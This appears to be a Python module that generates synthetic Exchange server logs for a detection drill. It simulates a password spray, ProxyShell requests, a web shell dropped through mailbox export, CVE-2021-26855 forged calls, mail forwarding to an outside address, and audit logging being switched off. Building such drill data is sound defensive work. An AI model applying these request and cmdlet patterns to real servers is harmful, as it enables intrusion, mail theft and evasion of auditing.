"""What the quiet intruder does beyond reading in the owners' programs: how he comes in, exports, forwards, clears away.

A password spray; ProxyShell, by which he runs cmdlets as an administrator and writes a page of his own; calls to EWS that
are forged through the front end and leave no file; an administrator's password and remote PowerShell. What he does by
cmdlet stands in `Deeds`, the rest in requests.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, timedelta

from dwell.drill.deeds import ADMIN, Cmdlet, parameters
from dwell.drill.people import DOMAIN, HOSTS, NETBIOS, Person, World
from dwell.drill.requests import Request

__all__ = ["Step", "console", "exports", "forged_call", "forwarding", "proxyshell", "spray", "tidying"]

Step = Request | Cmdlet
"""A request, or a cmdlet that was run."""

_SPRAY_TOOL = "ExchangeServicesClient/15.00.0913.015"
_SHELL_TOOL = "python-requests/2.25.1"
_FORGER = "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/60.0"
_REMOTE = "Microsoft WinRM Client"
_PAGE, _FOLDER = "/aspnet_client/qkwzt.aspx", "C:\\inetpub\\wwwroot\\aspnet_client"
_LURE = "@evil.example"
_MASTER = "Administrator"
_OUTSIDE = "archive@mail-box.example"


def _instant(day: date, second: int) -> datetime:
    return datetime(day.year, day.month, day.day, tzinfo=UTC) + timedelta(seconds=second)


def spray(world: World, rng: random.Random, clients: Sequence[str], victims: Sequence[Person]) -> Iterator[Request]:
    """Yield one password tried against every name, twice; it is that of the victims."""
    second = rng.randrange(10_000, 20_000)
    for turn in range(2):
        for person in world.people:
            second = min(86_000, second + rng.randrange(20, 90))
            let_in = turn == 1 and person in victims
            yield Request(
                second, person.host, "POST", "/EWS/Exchange.asmx", "-", person.login, rng.choice(clients), _SPRAY_TOOL,
                200 if let_in else 401, "Ews", person.smtp, "GetFolder" if let_in else "", 900 if let_in else 0,
            )  # fmt: skip


def _autodiscover(host: str, second: int, client: str, tail: str, sent: int = 1_200) -> Request:
    query = f"{_LURE}{tail}{'&' if '?' in tail else '?'}Email=autodiscover/autodiscover.json%3F{_LURE}"
    return Request(
        second, host, "POST", "/autodiscover/autodiscover.json", query, "-", client, _SHELL_TOOL, 200, "Autodiscover", "",
        "", sent,
    )  # fmt: skip


def _shell(host: str, second: int, client: str, sent: int = 700) -> Request:
    return Request(second, host, "POST", _PAGE, "-", "-", client, _SHELL_TOOL, 200, "", "", "", sent)


def _command(host: str, day: date, second: int, client: str, name: str, text: str) -> Iterator[Step]:
    """Yield a cmdlet that is run through ProxyShell: the request that carries it, then the cmdlet."""
    yield _autodiscover(host, second, client, "/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&")
    yield Cmdlet(host, _instant(day, second + 2), name, text, _MASTER)


def proxyshell(day: date, second: int, client: str, host: str, draft: Person) -> Iterator[Step]:
    """Yield the way in on one server: the probes, the role, a draft exported as a page, and the page in use.

    Args:
        day: the day.
        second: of that day.
        client: his address.
        host: the server.
        draft: in whose drafts the page is put to be exported.
    """
    yield _autodiscover(host, second, client, "/mapi/nspi/?")
    yield _autodiscover(host, second + 4, client, "/autodiscover/autodiscover.xml?")
    yield _autodiscover(host, second + 9, client, "/mapi/emsmdb/?")
    role = parameters(Role="Mailbox Import Export", User=f"{_MASTER}@{DOMAIN}")
    yield from _command(host, day, second + 20, client, "New-ManagementRoleAssignment", role)
    page = parameters(
        Mailbox=draft.smtp, IncludeFolders="#Drafts#", ContentFilter="Subject -eq 'qkwzt'",
        FilePath=f"\\\\127.0.0.1\\c${_FOLDER[2:]}\\qkwzt.aspx",
    )  # fmt: skip
    yield from _command(host, day, second + 31, client, "New-MailboxExportRequest", page)
    for step in range(6):
        yield _shell(host, second + 90 + step * 40, client)
    gone = parameters(Identity=f"{draft.smtp}\\MailboxExport", Confirm="False")
    yield from _command(host, day, second + 400, client, "Remove-MailboxExportRequest", gone)


def exports(
    rng: random.Random, day: date, second: int, client: str, people: Sequence[Person], *, shell: bool
) -> Iterator[Step]:
    """Yield the export of some mailboxes, the fetching of the files, and what removes the requests.

    Args:
        rng: chance.
        day: the day.
        second: when it begins.
        client: his address.
        people: whose mailboxes.
        shell: through ProxyShell and his page; else by remote PowerShell with an administrator's password.
    """
    for person in people:
        name = f"{rng.getrandbits(32):08x}"
        where = "\\\\127.0.0.1\\c$" + f"{_FOLDER[2:]}\\{name}.pst"
        taken = parameters(Mailbox=person.smtp, FilePath=where)
        gone = parameters(Identity=f"{person.smtp}\\MailboxExport", Confirm="False")
        host, size = person.host, rng.randrange(40_000_000, 900_000_000)
        if shell:
            yield from _command(host, day, second, client, "New-MailboxExportRequest", taken)
            yield Request(
                second + 420, host, "GET", f"/aspnet_client/{name}.pst", "-", "-", client, _SHELL_TOOL, 200, "", "", "",
                size,
            )  # fmt: skip
            # with his page he throws the file away again
            yield _shell(host, second + 640, client)
            yield from _command(host, day, second + 700, client, "Remove-MailboxExportRequest", gone)
        else:
            yield _remote(host, second, client)
            yield Cmdlet(host, _instant(day, second + 3), "New-MailboxExportRequest", taken, ADMIN)
            yield _remote(host, second + 600, client)
            yield Cmdlet(host, _instant(day, second + 602), "Remove-MailboxExportRequest", gone, ADMIN)
        second += rng.randrange(60, 300)


def _remote(host: str, second: int, client: str) -> Request:
    return Request(
        second, host, "POST", "/powershell", "PSVersion=5.1.17763.1", f"{NETBIOS}\\{ADMIN}", client, _REMOTE, 200,
        "PowerShell", "", "", 2_400,
    )  # fmt: skip


def console(rng: random.Random, host: str, client: str) -> Iterator[Request]:
    """Yield a working day of the administrator's remote PowerShell."""
    second = rng.randrange(28_000, 40_000)
    for _ in range(rng.randrange(2, 6)):
        yield _remote(host, second, client)
        second += rng.randrange(300, 4_000)


def forged_call(
    rng: random.Random, person: Person, second: int, client: str, count: int
) -> Iterator[Request]:  # fmt: skip
    """Yield calls to EWS as the system, forged through the front end (CVE-2021-26855); nothing is written to disk."""
    for _ in range(count):
        second = min(86_399, second + rng.randrange(2, 40))
        anchor = f"ServerInfo~a]@{person.host}.{DOMAIN}:444/EWS/Exchange.asmx?a=~1942062522"
        yield Request(
            second, person.host, "POST", "/ecp/qk.js", "-", "-", client, _FORGER, 200, "Ecp", person.smtp,
            rng.choice(("FindItem", "GetItem", "GetItem")), rng.randrange(20_000, 900_000), anchor,
        )  # fmt: skip


def forwarding(rng: random.Random, person: Person, day: date, second: int, client: str, agent: str) -> Iterator[Step]:
    """Yield a visit in the browser in which mail that comes in is sent on from now on."""
    yield Request(
        second, person.host, "GET", "/ecp/", "rfr=owa", person.login, client, agent, 200, "Ecp", person.smtp, "", 9_000
    )
    rule = rng.random() < 0.6
    kind = "InboxRules.svc/NewObject" if rule else "ForwardingSmtpAddress.svc/SetObject"
    yield Request(
        second + 30, person.host, "POST", f"/ecp/RulesEditor/{kind}", "msExchEcpCanary=x", person.login, client, agent, 200,
        "Ecp", person.smtp, "", 600,
    )  # fmt: skip
    at = _instant(day, second + 30)
    if rule:
        text = parameters(Mailbox=person.smtp, Name=".", ForwardTo=_OUTSIDE, MarkAsRead="True")
        yield Cmdlet(person.host, at, "New-InboxRule", text, person.sam, "ECP")
    else:
        text = parameters(
            Identity=person.smtp, ForwardingSmtpAddress=f"smtp:{_OUTSIDE}", DeliverToMailboxAndForward="True"
        )
        yield Cmdlet(person.host, at, "Set-Mailbox", text, person.sam, "ECP")


def tidying(day: date, second: int, caller: str, victims: Sequence[Person]) -> Iterator[Cmdlet]:
    """Yield what switches the audit of administrators off, and that of the mailboxes."""
    off = parameters(AdminAuditLogEnabled="False")
    yield Cmdlet(HOSTS[0], _instant(day, second), "Set-AdminAuditLogConfig", off, caller)
    for place, person in enumerate(victims):
        text = parameters(Identity=person.smtp, AuditEnabled="False")
        yield Cmdlet(person.host, _instant(day, second + 5 + place), "Set-Mailbox", text, caller)
